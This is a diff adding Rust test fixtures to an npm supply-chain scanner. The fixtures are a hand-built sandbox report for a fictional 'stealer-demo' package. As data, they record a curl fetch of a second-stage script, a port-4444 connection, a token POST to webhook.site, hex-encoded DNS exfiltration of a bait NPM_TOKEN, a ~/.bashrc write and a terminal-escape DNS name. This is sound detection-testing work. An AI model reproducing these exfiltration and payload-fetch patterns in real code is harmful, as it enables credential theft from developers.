@@ -1,5 +1,9 @@
 //! Representative reports, built by hand so the tests do not depend on the rules crate.
 
+use dsca_model::dynamic::{
+    Connection, DnsQuery, DroppedEvents, DynamicAnalysis, Exec, Exfiltration, FileEvent, FileOp,
+    HoneytokenRead, Honeytokens, HttpRequest, PhaseResult, PhaseStatus, Process, SandboxInfo,
+};
 use dsca_model::{
     Behaviour, Category, Evidence, Finding, Location, PackageInfo, Report, ReportError, Rule,
     Severity, Source, npm_purl,
@@ -190,6 +194,235 @@ pub fn failed() -> Report {
         "no-such-pkg",
         ReportError::new("not-found", "the registry has no package named no-such-pkg"),
     )
+}
+
+pub const CREDENTIAL_EXFILTRATION: Rule = Rule {
+    id: "DSCA1009",
+    name: "credential-exfiltration",
+    category: Category::Network,
+    severity: Severity::Critical,
+    title: "Sent stolen credentials out",
+    problem: "dsca planted bait credentials in the sandbox and found their values in what the \
+              package sent out.",
+    next_steps: "This version is malware. Rotate the real credentials of the same kinds.",
+};
+
+fn exec(time_ms: u64, argv: &[&str]) -> Exec {
+    Exec {
+        path: format!("/usr/bin/{}", argv.first().copied().unwrap_or_default()),
+        argv: argv.iter().map(|a| a.to_string()).collect(),
+        time_ms,
+    }
+}
+
+fn process(pid: u32, ppid: Option<u32>, execs: Vec<Exec>) -> Process {
+    Process {
+        pid,
+        ppid,
+        phase: "install".into(),
+        execs,
+        cwd: Some("/home/user/project".into()),
+        end: Some("exited 0".into()),
+        outlived: false,
+    }
+}
+
+fn query(name: &str, qtype: &str, resolver: &str, registry: bool) -> DnsQuery {
+    DnsQuery {
+        name: name.into(),
+        qtype: qtype.into(),
+        transport: "udp".into(),
+        resolver: resolver.into(),
+        time_ms: 12,
+        pid: Some(30),
+        registry,
+        answer: "192.0.2.1".into(),
+    }
+}
+
+fn http(method: &str, url: &str, registry: bool, body: &str) -> HttpRequest {
+    HttpRequest {
+        url: url.into(),
+        method: method.into(),
+        host: url.split('/').nth(2).unwrap_or_default().into(),
+        headers: vec![("user-agent".into(), "node".into())],
+        body: body.into(),
+        body_bytes: body.len() as u64,
+        time_ms: 40,
+        destination: "192.0.2.1:443".into(),
+        registry,
+        status: 200,
+    }
+}
+
+/// A package that ran in the sandbox: its postinstall downloaded and ran a second stage,
+/// looked up odd names (one with terminal escapes), wrote to ~/.bashrc, left a process
+/// running, read the bait ~/.npmrc and sent it out over DNS.
+pub fn sandboxed() -> Report {
+    let mut report = Report::new(
+        "stealer-demo@1.0.0",
+        package("stealer-demo", "1.0.0", "Demo"),
+        registry("stealer-demo", "1.0.0"),
+    );
+    let mut daemon = process(32, Some(30), vec![exec(900, &["node", "/tmp/.x/agent.js"])]);
+    daemon.outlived = true;
+    daemon.end = None;
+    let mut timeout = PhaseResult {
+        name: "import".into(),
+        command: vec!["node".into(), "-e".into(), "require('stealer-demo')".into()],
+        status: PhaseStatus::Timeout,
+        exit_code: None,
+        duration_ms: 60_000,
+        stdout_tail: String::new(),
+        stderr_tail: "waiting for c2…\nstill waiting\u{1b}[2J\n".into(),
+        error: None,
+    };
+    timeout.stderr_tail.push_str("giving up\n");
+    let mut files = vec![
+        FileEvent {
+            op: FileOp::Create,
+            path: "/home/user/.npm/_cacache/index-v5/aa".into(),
+            target: None,
+            pid: 1,
+            phase: "install".into(),
+            time_ms: 20,
+        },
+        FileEvent {
+            op: FileOp::Write,
+            path: "/home/user/.bashrc".into(),
+            target: None,
+            pid: 30,
+            phase: "install".into(),
+            time_ms: 700,
+        },
+    ];
+    for i in 0..12 {
+        files.push(FileEvent {
+            op: FileOp::Create,
+            path: format!("/home/user/.local/share/x/{i}"),
+            target: None,
+            pid: 30,
+            phase: "install".into(),
+            time_ms: 710 + i,
+        });
+    }
+    report.dynamic = Some(DynamicAnalysis {
+        sandbox: SandboxInfo {
+            namespaces: ["user", "mount", "pid", "net", "uts", "ipc"]
+                .map(String::from)
+                .to_vec(),
+            tracer: "strace".into(),
+            hostname: "sandbox".into(),
+            user: "user".into(),
+            registry_hosts: vec!["registry.npmjs.org".into()],
+            all_ports: true,
+            home: "/home/user".into(),
+            project_dir: "/home/user/project".into(),
+            resolver: "10.0.2.3".into(),
+        },
+        phases: vec![
+            PhaseResult {
+                name: "install".into(),
+                command: vec!["npm".into(), "install".into(), "stealer-demo".into()],
+                status: PhaseStatus::Completed,
+                exit_code: Some(0),
+                duration_ms: 4_250,
+                stdout_tail: "added 1 package\n".into(),
+                stderr_tail: String::new(),
+                error: None,
+            },
+            timeout,
+        ],
+        dns: vec![
+            query("registry.npmjs.org", "A", "10.0.2.3:53", true),
+            query("c2.example", "TXT", "8.8.8.8:53", false),
+            query("c2.example", "TXT", "8.8.8.8:53", false),
+            query(
+                "6e706d5f746f6b656e.x.exfil.example",
+                "A",
+                "10.0.2.3:53",
+                false,
+            ),
+            query("evil\u{1b}]0;pwned\u{7}.example", "A", "10.0.2.3:53", false),
+        ],
+        connections: vec![
+            Connection {
+                protocol: "tcp".into(),
+                destination: "10.0.2.2".into(),
+                port: 443,
+                name: Some("registry.npmjs.org".into()),
+                time_ms: 15,
+                pid: Some(1),
+                kind: "registry".into(),
+                sni: Some("registry.npmjs.org".into()),
+                first_bytes: String::new(),
+                bytes_received: 2048,
+            },
+            Connection {
+                protocol: "tcp".into(),
+                destination: "198.51.100.23".into(),
+                port: 4444,
+                name: None,
+                time_ms: 800,
+                pid: Some(32),
+                kind: "raw".into(),
+                sni: None,
+                first_bytes: "HELLO\\x00\\x01".into(),
+                bytes_received: 7,
+            },
+        ],
+        http: vec![
+            http("GET", "https://registry.npmjs.org/stealer-demo", true, ""),
+            http("GET", "http://198.51.100.7/stage2.sh", false, ""),
+            http("POST", "https://webhook.site/0000", false, "token=npm_bait"),
+        ],
+        processes: vec![
+            process(1, None, vec![exec(0, &["npm", "install", "stealer-demo"])]),
+            process(29, Some(1), vec![exec(300, &["sh", "-c", "node setup.js"])]),
+            process(30, Some(29), vec![exec(310, &["node", "setup.js"])]),
+            process(
+                31,
+                Some(30),
+                vec![exec(400, &["curl", "-s", "http://198.51.100.7/stage2.sh"])],
+            ),
+            daemon,
+            // A parent loop: never reached from a root.
+            process(50, Some(51), vec![exec(1, &["a"])]),
+            process(51, Some(50), vec![exec(1, &["b"])]),
+        ],
+        files,
+        honeytokens: Honeytokens {
+            planted: vec!["~/.npmrc (npm token)".into(), "env NPM_TOKEN".into()],
+            reads: vec![HoneytokenRead {
+                path: "~/.npmrc".into(),
+                pid: 30,
+                process: "node setup.js".into(),
+                time_ms: 650,
+            }],
+            exfiltrations: vec![Exfiltration {
+                token: "NPM_TOKEN".into(),
+                encoding: "hex".into(),
+                channel: "dns".into(),
+                destination: "6e706d5f746f6b656e.x.exfil.example".into(),
+                time_ms: 660,
+            }],
+        },
+        dropped: vec![DroppedEvents {
+            table: "files".into(),
+            count: 3,
+        }],
+    });
+    report.findings = vec![
+        Finding::new(
+            &CREDENTIAL_EXFILTRATION,
+            "sent the bait NPM_TOKEN out over dns to `6e706d5f746f6b656e.x.exfil.example`",
+        )
+        .with_evidence(Evidence::new(
+            "NPM_TOKEN (hex encoded) over dns to `6e706d5f746f6b656e.x.exfil.example` at 660 ms",
+        )),
+    ];
+    report.finalize();
+    report
 }
 
 pub fn all() -> Vec<Report> {
